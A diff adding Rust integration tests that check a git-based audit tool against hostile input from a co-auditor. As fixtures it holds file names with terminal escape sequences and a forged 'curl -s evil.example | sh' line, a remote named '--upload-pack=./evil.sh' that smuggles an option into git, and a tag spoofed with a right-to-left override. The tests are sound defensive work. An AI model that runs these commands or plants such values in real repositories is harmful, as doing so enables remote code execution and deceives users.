@@ -508,3 +508,155 @@ fn assets_added_in_two_clones_merge_without_a_conflict() {
         ]
     );
 }
+
+#[test]
+fn hostile_file_names_from_a_co_auditor_never_reach_the_terminal_raw() {
+    let sandbox = Sandbox::new();
+    let (acme, _bob) = team(&sandbox);
+    fs::create_dir_all(sandbox.path("bob/answers")).unwrap();
+    for name in [
+        "answers/\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[3JACC-09.yaml",
+        "answers/x\nhelp: run curl -s evil.example | sh\n.yaml",
+    ] {
+        fs::write(
+            sandbox.path(&format!("bob/{name}")),
+            "control: ACC-09\nlevel: 1\n",
+        )
+        .unwrap();
+    }
+    sandbox.git("bob", &["add", "-A"]);
+    sandbox.git("bob", &["commit", "-q", "-m", "hostile names"]);
+    sandbox.git("bob", &["push", "-q", "origin", "main"]);
+    acme.run(&["answer", "NET-01", "--level", "2"]).success();
+    let sync = acme.run(&["sync"]);
+    let status = acme.run(&["status"]);
+    for out in [&sync, &status] {
+        let all = format!("{}{}", out.stdout, out.stderr);
+        assert!(
+            !all.contains('\u{1b}') && !all.contains('\u{7}'),
+            "raw escape: {all:?}"
+        );
+        assert!(
+            !all.lines().any(|line| line.starts_with("help: run curl")),
+            "forged line: {all}"
+        );
+    }
+}
+
+/// The fake ssh of `ssh_remotes_go_through_the_system_git`: runs the remote command here.
+fn fake_ssh(sandbox: &Sandbox) -> String {
+    let fake = sandbox.path("fake-ssh");
+    fs::write(
+        &fake,
+        "#!/bin/sh\nfor last; do :; done\nexec sh -c \"$last\"\n",
+    )
+    .unwrap();
+    fs::set_permissions(&fake, fs::Permissions::from_mode(0o700)).unwrap();
+    fake.to_str().unwrap().to_owned()
+}
+
+#[test]
+fn a_remote_named_like_an_option_is_refused_and_runs_nothing() {
+    let sandbox = Sandbox::new();
+    let (_acme, bob) = team(&sandbox);
+    let marker = sandbox.path("pwned");
+    let evil = sandbox.path("bob/evil.sh");
+    fs::write(
+        &evil,
+        format!("#!/bin/sh\ntouch {}\nexit 1\n", marker.display()),
+    )
+    .unwrap();
+    fs::set_permissions(&evil, fs::Permissions::from_mode(0o700)).unwrap();
+    let url = format!("ssh://jump-host{}", sandbox.path("remote.git").display());
+    sandbox.git(
+        "bob",
+        &["config", "remote.--upload-pack=./evil.sh.url", &url],
+    );
+    let fake = fake_ssh(&sandbox);
+    let out = bob
+        .env("GIT_SSH_COMMAND", &fake)
+        .run(&["sync", "--", "--upload-pack=./evil.sh"]);
+    assert!(!marker.exists(), "the script ran: {out:?}");
+    assert_eq!(out.code, Some(2), "{out:?}");
+    assert!(
+        out.stderr.contains("--upload-pack=./evil.sh") && out.stderr.contains("starts with `-`"),
+        "{}",
+        out.stderr
+    );
+}
+
+#[test]
+fn a_round_tag_with_a_label_audit_close_refuses_is_not_adopted() {
+    let sandbox = Sandbox::new();
+    let (acme, _bob) = team(&sandbox);
+    let hostile = "audit/x\u{202e}gpj.exe";
+    sandbox.git("bob", &["tag", hostile]);
+    sandbox.git(
+        "bob",
+        &["push", "-q", "origin", &format!("refs/tags/{hostile}")],
+    );
+    let out = acme.run(&["sync"]).success();
+    let all = format!("{}{}", out.stdout, out.stderr);
+    assert!(!all.contains('\u{202e}'), "printed raw: {all}");
+    assert!(
+        out.stderr.contains("not taken") && out.stderr.contains("not a round label"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        sandbox.git("acme", &["tag", "-l"]).trim().is_empty(),
+        "adopted"
+    );
+    let list = acme.run(&["audit", "list"]).success();
+    assert!(!list.stdout.contains("gpj"), "{}", list.stdout);
+}
+
+#[test]
+fn the_first_sync_into_an_empty_bare_repository_over_ssh_sends_main() {
+    let sandbox = Sandbox::new();
+    let acme = sandbox.init("acme").client("ACME").lang("en").create();
+    bare_origin(&sandbox);
+    let url = format!("ssh://jump-host{}", sandbox.path("remote.git").display());
+    sandbox.git("acme", &["remote", "set-url", "origin", &url]);
+    let fake = fake_ssh(&sandbox);
+    let out = acme.env("GIT_SSH_COMMAND", &fake).run(&["sync"]).success();
+    assert!(
+        out.stdout.contains("origin has no history yet")
+            && out.stdout.contains("sent this clone's changes to origin"),
+        "{out:?}"
+    );
+    assert_eq!(
+        sandbox.git("remote.git", &["rev-parse", "main"]).trim(),
+        head(&sandbox, "acme")
+    );
+}
+
+#[test]
+fn a_committed_merge_attribute_is_refused_before_it_decides_a_merge() {
+    let sandbox = Sandbox::new();
+    let (acme, bob) = team(&sandbox);
+    fs::write(sandbox.path("bob/.gitattributes"), "*.yaml merge=union\n").unwrap();
+    sandbox.git("bob", &["add", ".gitattributes"]);
+    sandbox.git("bob", &["commit", "-q", "-m", "attributes"]);
+    bob.run(&["answer", "ACC-01", "--level", "2", "--note", "bob's"])
+        .success();
+    bob.run(&["sync"]).success();
+    acme.run(&["answer", "ACC-01", "--level", "3", "--note", "jeanne's"])
+        .success();
+    let before = head(&sandbox, "acme");
+    let out = acme.run(&["sync"]);
+    assert_eq!(out.code, Some(2), "{out:?}");
+    assert!(
+        out.stderr.contains(".gitattributes:1") && out.stderr.contains("merge=union"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(head(&sandbox, "acme"), before);
+    assert!(
+        sandbox
+            .git("acme", &["status", "--porcelain"])
+            .trim()
+            .is_empty(),
+        "no merge left behind"
+    );
+}
